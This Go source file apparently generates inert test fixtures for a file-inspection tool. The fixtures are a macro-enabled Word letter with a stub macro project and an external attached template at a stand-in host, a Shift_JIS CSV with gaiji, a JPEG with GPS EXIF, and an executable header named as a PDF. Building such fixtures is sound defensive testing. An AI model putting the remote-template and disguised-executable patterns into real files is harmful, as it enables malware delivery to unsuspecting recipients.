package main

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"fmt"
	"image"
	"image/color"
	"image/jpeg"

	"golang.org/x/text/encoding/japanese"
)

// The files of the main job. All are inert look-alikes: the macro is no program, the template's server does not exist, the
// executable has a header and nothing behind it.

// letter is a .docm as it comes by mail: a text, a macro project, and a template that Word would fetch from a stranger.
func letter(text string) ([]byte, error) {
	const ns = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`
	const rels = `http://schemas.openxmlformats.org/package/2006/relationships`
	const office = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/`
	head := `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n"
	// The magic of a compound file, then filler: enough to be taken for a macro project, too little to be one.
	macro := append([]byte{0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1}, bytes.Repeat([]byte("Attribute VB_Name = \"AutoOpen\" look-alike\r\n"), 40)...)
	parts := []struct {
		name string
		body []byte
	}{
		{"[Content_Types].xml", []byte(head + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
			`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
			`<Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>` +
			`<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>` +
			`<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>`)},
		{"_rels/.rels", []byte(head + `<Relationships xmlns="` + rels + `"><Relationship Id="rId1" Type="` + office + `officeDocument" Target="word/document.xml"/></Relationships>`)},
		{"word/document.xml", []byte(head + `<w:document ` + ns + `><w:body><w:p><w:r><w:t xml:space="preserve">` + text + `</w:t></w:r></w:p>` +
			`<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document>`)},
		{"word/settings.xml", []byte(head + `<w:settings ` + ns + `><w:attachedTemplate r:id="rId1"/></w:settings>`)},
		{"word/_rels/settings.xml.rels", []byte(head + `<Relationships xmlns="` + rels + `"><Relationship Id="rId1" Type="` + office +
			`attachedTemplate" Target="http://203.0.113.66/remote.dotm" TargetMode="External"/></Relationships>`)},
		{"word/_rels/document.xml.rels", []byte(head + `<Relationships xmlns="` + rels + `"><Relationship Id="rId1" Type="` + office + `settings" Target="settings.xml"/>` +
			`<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>`)},
		{"word/vbaProject.bin", macro},
	}
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for _, p := range parts {
		w, err := z.Create(p.name)
		if err != nil {
			return nil, fmt.Errorf("make the letter: %w", err)
		}
		if _, err := w.Write(p.body); err != nil {
			return nil, fmt.Errorf("make the letter: %w", err)
		}
	}
	if err := z.Close(); err != nil {
		return nil, fmt.Errorf("make the letter: %w", err)
	}
	return out.Bytes(), nil
}

// table is a Shift_JIS CSV as a core system writes it: half-width kana, a circled digit of the NEC set, and two characters
// of the municipality's own (gaiji, codes F040 and F9FC) that no standard table knows.
func table() ([]byte, error) {
	text, err := japanese.ShiftJIS.NewEncoder().Bytes([]byte("番号,氏名,ﾌﾘｶﾞﾅ,備考\r\n1,海山 太郎,ｳﾐﾔﾏ ﾀﾛｳ,①転入\r\n2,表 能子,ｵﾓﾃ ﾖｼｺ,～の件\r\n3,"))
	if err != nil {
		return nil, fmt.Errorf("make the table: %w", err)
	}
	text = append(text, 0xf0, 0x40, 0x8d, 0xe8, ' ', 0xf9, 0xfc) // gaiji, 崎, gaiji
	return append(text, ",,\r\n"...), nil
}

// photo is a JPEG with EXIF: the camera was held sideways (orientation 6) over the town hall's coordinates.
func photo() ([]byte, error) {
	img := image.NewRGBA(image.Rect(0, 0, 160, 96))
	for y := range 96 {
		for x := range 160 {
			img.Set(x, y, color.RGBA{uint8(x), uint8(y * 2), 90, 255})
		}
	}
	var plain bytes.Buffer
	if err := jpeg.Encode(&plain, img, &jpeg.Options{Quality: 90}); err != nil {
		return nil, fmt.Errorf("make the photo: %w", err)
	}
	exif := append([]byte("Exif\x00\x00"), exifBlock()...)
	app1 := binary.BigEndian.AppendUint16([]byte{0xff, 0xe1}, uint16(len(exif)+2))
	out := append([]byte{0xff, 0xd8}, append(app1, exif...)...)
	return append(out, plain.Bytes()[2:]...), nil
}

// exifBlock is a TIFF structure with an orientation and a GPS directory (Exif 2.32, 4.6.6).
func exifBlock() []byte {
	le := binary.LittleEndian
	entry := func(b []byte, tag, kind uint16, count, value uint32) []byte {
		b = le.AppendUint16(b, tag)
		b = le.AppendUint16(b, kind)
		b = le.AppendUint32(b, count)
		return le.AppendUint32(b, value)
	}
	const (
		short, long, ascii, rational = 3, 4, 2, 5
		gpsAt                        = 8 + 2 + 2*12 + 4
		valuesAt                     = gpsAt + 2 + 4*12 + 4
	)
	b := append([]byte("II"), 42, 0)
	b = le.AppendUint32(b, 8)
	b = le.AppendUint16(b, 2)
	b = entry(b, 0x0112, short, 1, 6)
	b = entry(b, 0x8825, long, 1, gpsAt)
	b = le.AppendUint32(b, 0)
	b = le.AppendUint16(b, 4)
	b = entry(b, 1, ascii, 2, 'N')
	b = entry(b, 2, rational, 3, valuesAt)
	b = entry(b, 3, ascii, 2, 'E')
	b = entry(b, 4, rational, 3, valuesAt+24)
	b = le.AppendUint32(b, 0)
	for _, v := range []uint32{35, 1, 41, 1, 22, 1, 139, 1, 41, 1, 30, 1} {
		b = le.AppendUint32(b, v)
	}
	return b
}

// program is a Windows executable's header under the name of a PDF.
func program() []byte {
	b := make([]byte, 512)
	copy(b, "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff")
	binary.LittleEndian.PutUint32(b[0x3c:], 0x80)
	copy(b[0x40:], "This program cannot be run in DOS mode.\r\r\n$")
	copy(b[0x80:], "PE\x00\x00\x64\x86")
	return b
}
